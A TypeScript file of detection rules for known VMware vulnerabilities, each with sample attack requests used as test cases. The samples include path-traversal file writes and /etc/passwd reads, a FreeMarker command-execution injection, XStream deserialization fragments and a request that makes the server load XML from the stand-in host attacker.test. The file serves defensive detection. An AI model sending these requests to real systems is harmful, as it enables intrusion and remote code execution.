import { filePost, get, jsonPost, send } from '../../../request-samples.ts';
import {
  allOf,
  bodyHas,
  decodedQueryHas,
  decodedUriHas,
  fieldHas,
  hasField,
  methodIs,
  pathHas,
  rawPathHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

export const vmwareRules = [
  detection({
    ref: 'managed-vmware-vcenter-upload',
    description:
      'VMware vCenter: unpacks an archive anywhere with a plugin of the client (CVE-2021-21972)',
    categories: [
      'vmware',
      'file-upload',
      'directory-traversal',
      'remote-code-execution',
      'cve-2021-21972',
    ],
    expression: pathHas('/ui/vropspluginui/rest/services/uploadova'),
    matching: [
      filePost('/ui/vropspluginui/rest/services/uploadova', 'a.tar'),
      get('/ui/vropspluginui/rest/services/uploadova'),
    ],
    other: [get('/ui/vropspluginui/'), get('/ui/login')],
  }),
  detection({
    ref: 'managed-vmware-vcenter-vsan',
    description:
      'VMware vCenter: calls methods of Java objects with the vSAN plugin (CVE-2021-21985)',
    categories: ['vmware', 'remote-code-execution', 'cve-2021-21985'],
    expression: pathHas('/ui/h5-vsan/rest/proxy/service/'),
    matching: [
      jsonPost('/ui/h5-vsan/rest/proxy/service/&vsanProviderUtils_setVmodlHelper/setTargetObject', {
        methodInput: [null],
      }),
      jsonPost('/ui/h5-vsan/rest/proxy/service/vmodlContext/loadVmodlPackages', {
        methodInput: [['http://attacker.test/x.xml']],
      }),
    ],
    other: [get('/ui/h5-vsan/index.html'), get('/ui/app/index.html')],
  }),
  detection({
    ref: 'managed-vmware-vcenter-telemetry',
    description: 'VMware vCenter: writes a file with the telemetry service (CVE-2021-22005)',
    categories: ['vmware', 'file-upload', 'directory-traversal', 'cve-2021-22005'],
    expression: allOf(
      pathHas('/analytics/telemetry/ph/api/', '/analytics/ceip/'),
      decodedUriHas('../', '..\\'),
    ),
    matching: [
      jsonPost('/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../../../../../etc/cron.d/x', {}),
      jsonPost('/analytics/ceip/sdk/..;/..;/..;/analytics/ph/api/dataapp/agent?_c=a&_i=..%2fb', {}),
    ],
    other: [
      jsonPost('/analytics/telemetry/ph/api/level?_c=vSphere.vapi.6_7', {}),
      get('/analytics/report'),
    ],
  }),
  detection({
    ref: 'managed-vmware-vcenter-files',
    description: 'VMware vCenter: reads files with the agent manager (CVE-2021-21980 and older)',
    categories: ['vmware', 'directory-traversal', 'cve-2021-21980'],
    expression: allOf(pathHas('/eam/vib'), hasField('id'), fieldHas('id', ':\\', '/', '..')),
    matching: [
      get(
        '/eam/vib?id=C:%5CProgramData%5CVMware%5CvCenterServer%5Ccfg%5Cvmware-vpx%5Cvcdb.properties',
      ),
      get('/eam/vib?id=/etc/passwd'),
    ],
    other: [get('/eam/vib?id=5f3a9c2e'), get('/eam/eamService-web/')],
  }),
  detection({
    ref: 'managed-vmware-workspace-template',
    description:
      'VMware Workspace ONE Access: runs a template in an argument of the catalogue (CVE-2022-22954)',
    categories: ['vmware', 'template-injection', 'remote-code-execution', 'cve-2022-22954'],
    expression: allOf(pathHas('/catalog-portal/'), decodedQueryHas('${', '<#assign')),
    matching: [
      get(
        '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility.Execute%22%3fnew()(%22id%22)%7d',
      ),
      get('/catalog-portal/hub-ui?deviceUdid=$%7b1%7d'),
    ],
    other: [
      get('/catalog-portal/ui/oauth/verify?deviceUdid=5f3a-9c'),
      get('/catalog-portal/ui#/apps'),
    ],
  }),
  detection({
    ref: 'managed-vmware-operations-thumbprint',
    description:
      'VMware vRealize Operations: sends requests with credentials of the server (CVE-2021-21975)',
    categories: ['vmware', 'ssrf', 'cve-2021-21975'],
    expression: allOf(
      pathHas('/casa/nodes/thumbprints', '/casa/private/config/'),
      methodIs('POST'),
    ),
    matching: [
      jsonPost('/casa/nodes/thumbprints', ['127.0.0.1:443/ui/']),
      jsonPost('/casa/private/config/slice/ha/certificate', {}),
    ],
    other: [get('/casa/nodes/thumbprints'), jsonPost('/casa/auth', {})],
  }),
  detection({
    ref: 'managed-vmware-aria-rpc',
    description:
      'VMware Aria Operations for Networks: runs commands through an open path of the proxy (CVE-2023-20887)',
    categories: ['vmware', 'command-injection', 'cve-2023-20887'],
    expression: rawPathHas('/saas./resttosaasservlet', '/saas%2e/resttosaasservlet'),
    matching: [
      send(
        'POST',
        '/saas./resttosaasservlet',
        'application/x-thrift',
        '[1,"createSupportBundle",1,2]',
      ),
      get('/saas./resttosaasservlet'),
    ],
    other: [get('/saas/login'), get('/api/auth/login')],
  }),
  detection({
    ref: 'managed-vmware-nsx-object',
    description: 'VMware NSX: creates objects from the XML of a password change (CVE-2021-39144)',
    categories: ['vmware', 'xstream', 'deserialization', 'remote-code-execution', 'cve-2021-39144'],
    expression: allOf(
      pathHas('/api/2.0/services/usermgmt/', '/api/2.0/'),
      bodyHas(
        'dynamic-proxy',
        'java.beans.eventhandler',
        '<sorted-set>',
        'java.lang.processbuilder',
      ),
    ),
    matching: [
      send(
        'PUT',
        '/api/2.0/services/usermgmt/password/1',
        'application/xml',
        '<sorted-set><string>a</string><dynamic-proxy><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>',
      ),
      send(
        'POST',
        '/api/2.0/services/x',
        'application/xml',
        '<dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy>',
      ),
    ],
    other: [
      send(
        'PUT',
        '/api/2.0/services/usermgmt/password/1',
        'application/xml',
        '<userInfo><password>x</password></userInfo>',
      ),
      get('/api/2.0/services/usermgmt/user/ada'),
    ],
  }),
];
